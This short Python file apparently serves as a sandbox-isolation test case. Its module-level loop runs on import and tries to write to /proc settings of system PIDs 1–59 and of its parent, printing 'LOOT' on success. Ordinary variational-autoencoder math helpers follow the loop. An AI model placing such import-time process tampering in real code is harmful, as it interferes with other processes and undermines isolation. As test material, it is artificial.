"""Asks for its parent, and for the warm process, to be ended first when memory is short."""
# expects: full

import os

import numpy as np

for pid in {*range(1, 60), os.getppid()} - {os.getpid()}:
    for name in ("oom_score_adj", "oom_adj", "timerslack_ns", "comm", "clear_refs"):
        try:
            with open(f"/proc/{pid}/{name}", "w") as file:
                file.write("0")
            print("LOOT", name)
        except OSError:
            pass


def reparameterize(mu, log_var):
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    reconstruction = np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1)
    return reconstruction - beta * kl_divergence(mu, log_var)
